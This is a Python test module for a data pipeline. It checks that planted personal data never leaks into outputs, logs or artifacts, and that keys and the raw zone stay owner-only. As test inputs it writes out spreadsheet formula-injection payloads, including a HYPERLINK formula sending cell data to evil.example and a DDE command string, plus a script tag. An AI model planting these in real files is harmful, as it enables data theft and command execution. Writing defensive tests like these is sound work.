"""Nobody sees what they should not. One sample drop with defects (phone and ID numbers inside
free text, formula-like text planted in a landing file) goes through ingest, the annual report
and the quarantine export; then every file kesu wrote outside the raw zone, every log line and
every Prefect artifact is scanned for clear personal data taken from the landing files.
Also: tokens per key, owner-only raw zone and demo key, and no run without a key."""

from __future__ import annotations

import argparse
import contextlib
import csv
import io
import json
import logging
import os
import sqlite3
import subprocess
import sys
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from kesu.flows import quarantine_cli
from kesu.flows.ingest import nightly
from kesu.flows.report import report
from kesu.reports.files import FORMULA_TRIGGERS
from kesu.samplegen.generate import generate
from kesu.transforms.columns import COLUMNS, FEEDS, RECORD_KEY
from kesu.transforms.pii import normalize_id_number, normalize_phone
from kesu.transforms.run_records import IngestRun
from kesu.warehouse.landing import read_source

DAY = date(2025, 3, 3)
KEY = "pii-scan-test-key-0123456789abcdef"
OTHER_KEY = "another-pii-scan-key-9876543210fedcba"
REPO = Path(__file__).resolve().parents[2]
KESU = Path(sys.executable).with_name("kesu")
PII_KINDS = ("phone", "person_name", "id_number")
# Formula-like regulator names planted in the transfers file (staging trims a leading tab/CR,
# which the writer tests cover). The last one is on a row that is quarantined.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"详情")',
    "+监管局",
    "-天津监管局",
    "@上海监管局<script>alert(1)</script>",
]
QUARANTINED_FORMULA = "=cmd|' /C calc'!A0"


@dataclass
class Personal:
    """Clear personal data from the landing files."""

    long_values: set[str] = field(default_factory=set)  # phones and ID numbers (>= 7 chars)
    names: set[str] = field(default_factory=set)
    in_free_text: int = 0  # free-text cells that hold a phone or ID number of the same file


@dataclass
class Site:
    landing: Path
    warehouse: Path
    reports: Path
    export: Path
    log_lines: list[str]
    artifacts: list[str]
    runs: list[IngestRun]
    planted: set[str]  # clear forms of the personal data planted in every column


def plant_formulas(landing: Path) -> None:
    """Regulator names that a spreadsheet would run, in the drop's transfers file."""
    folder = landing / "regulator_transfers" / DAY.isoformat()
    (source,) = sorted(folder.iterdir())
    frame = read_source(source).frame.drop("_line", "_ragged")
    assert frame.height > len(FORMULAS)
    names = frame["转办机构"].to_list()
    names[: len(FORMULAS)] = FORMULAS
    names[len(FORMULAS)] = QUARANTINED_FORMULA
    dates = frame["转办日期"].to_list()
    dates[len(FORMULAS)] = "N/A"  # unparseable: this row goes to quarantine
    frame = frame.with_columns(pl.Series("转办机构", names), pl.Series("转办日期", dates))
    source.unlink()
    frame.write_csv(folder / "regulator_transfers_planted.csv")


def plant_landline(landing: Path) -> str:
    """An agent typed a caller's landline into a ticket: free text with a 7- or 8-digit number."""
    (calls,) = sorted((landing / "hotline" / DAY.isoformat()).iterdir())
    numbers = read_source(calls).frame["主叫号码"].drop_nulls()
    landline = numbers.filter(numbers.str.contains("^0[0-9]{2,3}-")).sort()[0]
    (source,) = sorted((landing / "complaints" / DAY.isoformat()).iterdir())
    frame = read_source(source).frame.drop("_line", "_ragged")
    content = frame["投诉内容"].to_list()
    content[0] = f"{content[0] or ''}客户座机{landline}。"
    source.unlink()
    frame.with_columns(pl.Series("投诉内容", content)).write_csv(source.with_suffix(".csv"))
    return landline


# Personal data as people type it, planted in every column of every feed (one appended record
# per column), inside free text, and in a landed file's name.
PLANTED = [
    "138.3333.4444",
    "138 - 6666 - 7777",
    "1385555-6666",
    "１３９２７６４８５１３",
    "+86 137-2222-3333",
    "110105 19491231 002X",
    "6222 0212 3456 7890 128",  # a card number that passes the Luhn check
]
IN_FILE_NAME = "139-4444-5555"


def plant_everywhere(landing: Path) -> set[str]:
    """Plant PLANTED in every column of every feed and IN_FILE_NAME in the hotline file's name;
    returns every clear form that must not leave the raw zone."""
    for feed in FEEDS:
        (source,) = sorted((landing / feed / DAY.isoformat()).iterdir())
        frame = read_source(source).frame.drop("_line", "_ragged")
        kinds = {c.header: c.kind for c in COLUMNS[feed]}
        key = next(c.header for c in COLUMNS[feed] if c.name == RECORD_KEY[feed][0])
        planted = []
        for i, header in enumerate(frame.columns):
            form = PLANTED[i % len(PLANTED)]
            if kinds.get(header) == "free_text":
                form = f"客户来电{form}，证件号{PLANTED[5]}，卡号{PLANTED[6]}"
            # a copy of the first record under a new key, with personal data in one column (and
            # no free text of its own: a name there is masked only as the row's own name)
            free = [pl.lit("咨询").alias(h) for h in frame.columns if kinds.get(h) == "free_text"]
            copy = frame.head(1).with_columns(pl.col(key) + f"9{i:02d}", *free)
            planted.append(copy.with_columns(pl.lit(form).alias(header)))
        source.unlink()
        name = (
            f"{feed}_{IN_FILE_NAME}.csv" if feed == "hotline" else source.with_suffix(".csv").name
        )
        pl.concat([frame, *planted]).write_csv(source.parent / name)
    clear = set()
    for form in [*PLANTED, IN_FILE_NAME]:
        digits = normalize_id_number(pl.Series([form]))[0]
        clear |= {form, digits, digits[-8:], digits.removeprefix("86")}
    return clear


def personal_data(landing: Path) -> Personal:
    found = Personal()
    free_text: list[str] = []
    for feed in FEEDS:
        kinds = {c.header: c.kind for c in COLUMNS[feed]}
        for path in sorted((landing / feed).rglob("*.*")):
            frame = read_source(path).frame
            for header, kind in kinds.items():
                if header not in frame.columns:
                    continue
                values = frame[header].drop_nulls().str.strip_chars()
                values = values.filter(values != "")
                if kind == "free_text":
                    free_text += values.to_list()
                elif kind == "person_name":
                    found.names |= {v for v in values.str.replace_all(r"\s", "") if len(v) >= 2}
                elif kind in ("phone", "id_number"):
                    normal = (normalize_phone if kind == "phone" else normalize_id_number)(values)
                    found.long_values |= set(values) | set(normal.drop_nulls())
    found.long_values = {v for v in found.long_values if len(v) >= 7}
    found.in_free_text = sum(any(v in t for v in found.long_values) for t in free_text)
    return found


class Collect(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(self.format(record))


def prefect_logs_and_artifacts(since: datetime) -> tuple[list[str], list[str]]:
    """Everything the runs sent to the Prefect API: log messages and artifacts (as JSON)."""
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import LogFilter, LogFilterTimestamp
    from prefect.logging.handlers import APILogHandler

    APILogHandler().flush()  # logs go to the API in batches
    logs, artifacts = [], []
    with get_client(sync_client=True) as client:
        log_filter = LogFilter(timestamp=LogFilterTimestamp(after_=since))
        while batch := client.read_logs(log_filter=log_filter, offset=len(logs), limit=200):
            logs += batch
        for artifact in client.read_artifacts():
            artifacts.append(json.dumps(artifact.model_dump(mode="json"), ensure_ascii=False))
    return [log.message for log in logs], artifacts


def prefect_database_text() -> list[str]:
    """Every value of every table of the harness's Prefect database (runs, states, logs,
    artifacts, parameters), as text."""
    from prefect.settings import PREFECT_API_DATABASE_CONNECTION_URL

    database = PREFECT_API_DATABASE_CONNECTION_URL.value().split(":///", 1)[1]
    texts = []
    with contextlib.closing(sqlite3.connect(f"file:{database}?mode=ro", uri=True)) as db:
        tables = [t for (t,) in db.execute("select name from sqlite_master where type='table'")]
        for table in tables:
            for row in db.execute(f'select * from "{table}"'):  # noqa: S608 (names from sqlite)
                texts += [
                    v.decode("utf-8", "replace") if isinstance(v, bytes) else str(v)
                    for v in row
                    if v is not None
                ]
    return texts


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Site:
    mp = pytest.MonkeyPatch()
    base = tmp_path_factory.mktemp("site")
    mp.chdir(base)  # anything written relative to the working directory lands here too
    mp.setenv("KESU_PII_KEY", KEY)
    mp.delenv("KESU_PII_KEY_FILE", raising=False)
    landing = base / "landing"
    generate(DAY, DAY, landing, profile="small", seed=11, defects=True, scale=10)
    plant_formulas(landing)
    plant_landline(landing)
    planted = plant_everywhere(landing)
    collect = Collect()
    loggers = [logging.getLogger(), logging.getLogger("prefect")]
    for logger in loggers:
        logger.addHandler(collect)
    since = datetime.now(UTC)
    out = io.StringIO()
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
            warehouse, reports = base / "warehouse", base / "reports"
            run = nightly(drop_date=DAY, landing_dir=str(landing), warehouse_dir=str(warehouse))
            report(kind="annual", period="2025", out=str(reports), warehouse_dir=str(warehouse))
            parser = argparse.ArgumentParser(prog="kesu")
            quarantine_cli.add_parser(parser.add_subparsers(dest="command"))
            export = base / "export" / "quarantine.xlsx"
            export.parent.mkdir()
            args = parser.parse_args(
                ["quarantine", "--date", DAY.isoformat(), "--warehouse", str(warehouse)]
                + ["--export", str(export)]
            )
            assert quarantine_cli.run(args) == 0
    finally:
        for logger in loggers:
            logger.removeHandler(collect)
    messages, artifacts = prefect_logs_and_artifacts(since)
    artifacts += prefect_database_text()
    yield Site(
        landing,
        warehouse,
        reports,
        export,
        [*collect.lines, *messages, *out.getvalue().splitlines()],
        artifacts,
        [run],
        planted,
    )
    mp.undo()


@pytest.fixture(scope="module")
def personal(site) -> Personal:
    found = personal_data(site.landing)
    found.long_values |= site.planted
    assert found.names and found.long_values
    assert found.in_free_text >= 3  # the sample really hides phones and IDs in free text
    return found


# --- reading every output as cells and as text ---------------------------------------------

FREE_TEXT = {c.name for cols in COLUMNS.values() for c in cols if c.kind == "free_text"}
FREE_TEXT_HEADERS = {c.header for cols in COLUMNS.values() for c in cols if c.kind == "free_text"}


@dataclass
class Scanned:
    cells: list[str] = field(default_factory=list)  # whole values
    free_text: list[str] = field(default_factory=list)  # masked free-text cells
    text: list[str] = field(default_factory=list)  # raw text of files, logs, artifacts


def json_strings(value) -> list[str]:
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in [str(k), *json_strings(v)]]
    if isinstance(value, list):
        return [s for v in value for s in json_strings(v)]
    return [value] if isinstance(value, str) else []


def scan_file(path: Path, into: Scanned) -> None:
    suffix = path.suffix.lower()
    if suffix == ".parquet":
        as_text = pl.read_parquet(path).select(pl.all().cast(pl.String))
        cells = [v for column in as_text.iter_columns() for v in column.drop_nulls()]
        into.cells += cells
        into.text.append("\n".join(cells))
        for name in as_text.columns:
            if name in FREE_TEXT or name.removesuffix("_masked") in FREE_TEXT:
                into.free_text += as_text[name].drop_nulls().to_list()
    elif suffix == ".xlsx":
        book = openpyxl.load_workbook(path)
        for sheet in book.worksheets:
            rows = [[c.value for c in row] for row in sheet.iter_rows()]
            free = {j for row in rows[:3] for j, v in enumerate(row) if str(v)[:4] in
                    {h[:4] for h in FREE_TEXT_HEADERS}}  # fmt: skip
            for row in rows:
                into.cells += [str(v) for v in row if v is not None]
                into.free_text += [str(row[j]) for j in free if row[j] is not None]
            into.text.append("\n".join(str(v) for row in rows for v in row if v is not None))
    elif suffix == ".png":
        return  # charts: pixels only (their labels are category names from the tables)
    else:
        text = path.read_bytes().decode("utf-8", errors="replace")
        into.text.append(text)
        if suffix == ".json" and "_delta_log" in path.parts:  # a Delta commit: one JSON a line
            into.cells += [s for line in text.splitlines() if line.strip()
                           for s in json_strings(json.loads(line))]  # fmt: skip
        elif suffix == ".json":
            into.cells += json_strings(json.loads(text))
        elif suffix == ".csv":
            into.cells += [c for row in csv.reader(io.StringIO(text), strict=False) for c in row]


def kesu_outputs(site: Site) -> list[Path]:
    """Every file kesu wrote, but the raw zone (and the landing zone, its input)."""
    written = []
    for top in (site.warehouse, site.reports, site.export.parent):
        for path in sorted(top.rglob("*")):
            if path.is_file() and "_raw" not in path.relative_to(top).parts:
                written.append(path)
    return written


def test_no_clear_personal_data_in_any_output_log_or_artifact(site, personal):
    files = kesu_outputs(site)
    kinds = {p.suffix for p in files}
    assert {".parquet", ".json", ".csv", ".xlsx", ".html", ".md"} <= kinds
    assert site.export in files and (site.warehouse / "quarantine").is_dir()
    scanned = Scanned()
    for path in files:
        scan_file(path, scanned)
    scanned.text += site.log_lines + site.artifacts
    scanned.cells += site.log_lines
    assert scanned.free_text and len(site.artifacts) >= 3 and len(site.log_lines) > 10
    everything = "\n".join(scanned.text)
    leaked = sorted(v for v in personal.long_values if v in everything)
    assert not leaked, leaked[:5]  # phones and ID numbers: not even inside other text
    # nor in a "mask" that only inserts stars (138****5678 hides digits, 512****3456 would not)
    unstarred = everything.replace("*", "")
    assert not sorted(v for v in personal.long_values if v in unstarred)[:5]
    assert not personal.names.intersection(scanned.cells)  # names: never a whole value
    free = "\n".join(scanned.free_text)
    assert not [n for n in personal.names if n in free]  # nor inside masked free text
    # and the key itself is nowhere (the ledger holds only its keyed fingerprint)
    assert KEY not in everything
    assert site.runs[0].key_id and site.runs[0].key_id in everything


# kinds of columns where a planted phone is held as personal data (a date is held as unparseable)
# the columns a planted number is held in as personal data (an amount too: a phone or card typed
# as 涉及金额 loaded as yuan); in a date, a time or a whole number it is held as unparseable
STRUCTURED = {"id", "text", "enum", "branch", "channel_label", "category_label", "cause_label",
              "decimal"}  # fmt: skip


def test_planted_personal_data_was_read_masked_and_held(site):
    # the planted records went in: each is accounted for, held (a phone in an id, a date or a
    # label) or loaded with its free text masked; the file name is stored masked with its hash
    feeds = site.runs[0].feeds
    assert all(f.rows_in == f.loaded + f.quarantined for f in feeds.values())
    (hotline,) = feeds["hotline"].files
    assert hotline.name == f"hotline_139****5555~{hotline.sha256[:8]}.csv"
    raw = [p.name for p in (site.warehouse / "_raw").rglob("*.csv")]
    assert f"hotline_{IN_FILE_NAME}.csv" in raw  # the raw zone keeps the name as landed
    held = pl.concat(
        pl.read_parquet(p).select("rule", "reason")
        for p in (site.warehouse / "quarantine").rglob("*.parquet")
    )
    structured = [c for cs in COLUMNS.values() for c in cs if c.kind in STRUCTURED]
    assert held.filter(pl.col("rule").str.contains("personal_data")).height == len(structured)
    # a record with personal data only in its free text loads, masked
    staged = pl.read_parquet(site.warehouse / "stg_complaints" / "**" / "*.parquet")
    content = staged.filter(pl.col("content_masked").str.starts_with("客户来电1"))["content_masked"]
    assert content.to_list() == ["客户来电137****3333，证件号1101**********002X，卡号6222****0128"]


def test_formula_like_text_from_a_landing_file_is_inert_in_every_output(site):
    folder = site.reports / "annual" / "2025"
    regulators = pl.read_parquet(folder / "tables" / "regulator_transfers.parquet")
    assert set(FORMULAS) <= set(regulators["regulator"])  # the hostile names did flow through
    for book_path in (folder / "report.xlsx", site.export):
        book = openpyxl.load_workbook(book_path)
        texts = set()
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (book_path.name, sheet.title, cell.coordinate)
                    texts.add(cell.value)
        expected = FORMULAS if book_path.name == "report.xlsx" else [QUARANTINED_FORMULA]
        assert set(expected) <= texts, book_path.name
    for path in (folder / "tables").glob("*.csv"):
        parquet = pl.read_parquet(path.with_suffix(".parquet"))
        text_columns = [i for i, dtype in enumerate(parquet.dtypes) if dtype == pl.String]
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
        for row in rows[1:]:
            assert not [row[i] for i in text_columns if row[i].startswith(FORMULA_TRIGGERS)]
    quoted = (folder / "tables" / "regulator_transfers.csv").read_text(encoding="utf-8-sig")
    assert "'+监管局" in quoted and "'-天津监管局" in quoted
    page = (folder / "report.html").read_text(encoding="utf-8")
    assert "<script" not in page and "&lt;script&gt;" in page


# --- keys ----------------------------------------------------------------------------------


def complaint_pii(warehouse: Path) -> pl.DataFrame:
    frame = pl.read_delta(str(warehouse / "stg_complaints"))
    return frame.select("complaint_id", "updated_at", pl.col("^.*_(token|masked)$")).sort(
        "complaint_id", "updated_at"
    )


def test_tokens_are_stable_per_key_and_differ_across_keys(site, tmp_path, monkeypatch):
    first = complaint_pii(site.warehouse)
    tokens = [c for c in first.columns if c.endswith("_token")]
    masked = [c for c in first.columns if c.endswith("_masked")]
    assert len(tokens) == 3 and len(masked) == 4
    again = {}
    for name, key in (("same", KEY), ("other", OTHER_KEY)):
        monkeypatch.setenv("KESU_PII_KEY", key)
        nightly(
            drop_date=DAY,
            feeds=["complaints"],
            landing_dir=str(site.landing),
            warehouse_dir=str(tmp_path / name),
        )
        again[name] = complaint_pii(tmp_path / name)
    assert again["same"].equals(first)  # same key, same drop: the same tokens
    other = again["other"]
    assert other.select(masked).equals(first.select(masked))  # masks do not depend on the key
    for column in tokens:
        pairs = first.select(column).with_columns(other[column].alias("other")).drop_nulls()
        assert pairs.height > 0 and (pairs[column] != pairs["other"]).all(), column


# --- permissions and the missing key --------------------------------------------------------


def test_raw_zone_is_owner_only(site):
    raw = site.warehouse / "_raw"
    entries = [raw, *raw.rglob("*")]
    assert any(p.is_file() for p in entries)
    for path in entries:
        mode = path.stat().st_mode & 0o777
        assert mode == (0o700 if path.is_dir() else 0o600), (path, oct(mode))


def subprocess_env(home: Path) -> dict[str, str]:
    """No KESU_* setting at all; Prefect talks to the harness's server (it starts none)."""
    from prefect.settings import PREFECT_API_URL

    env = {k: v for k, v in os.environ.items() if not k.startswith("KESU_")}
    return env | {"PREFECT_API_URL": str(PREFECT_API_URL.value()), "PREFECT_HOME": str(home)}


def test_demo_key_is_owner_only_even_under_a_permissive_umask(tmp_path):
    done = subprocess.run(
        [str(KESU), "sample", "--start", "2025-03-01", "--end", "2025-03-01", "--clean"],
        cwd=tmp_path,
        env=subprocess_env(tmp_path / ".prefect"),
        preexec_fn=lambda: os.umask(0),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    key = tmp_path / "data" / "secrets" / "pii.key"
    assert key.stat().st_mode & 0o777 == 0o600
    assert key.parent.stat().st_mode & 0o777 == 0o700
    assert "demo PII key" in done.stdout


def test_ingest_without_any_key_stops_and_names_kesu_pii_key(site, tmp_path):
    done = subprocess.run(
        [str(KESU), "ingest", "--date", DAY.isoformat(), "--landing", str(site.landing)]
        + ["--warehouse", str(tmp_path / "warehouse")],
        cwd=tmp_path,  # no kesu.toml, no data/secrets/pii.key here
        env=subprocess_env(tmp_path / ".prefect"),
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode != 0
    # one clear line (not only a traceback) says what to set
    said = [line for line in done.stderr.splitlines() if line.startswith("kesu ingest: ")]
    assert said and "KESU_PII_KEY" in said[0], done.stderr[-2000:]
    assert not (tmp_path / "warehouse").exists()  # nothing was written
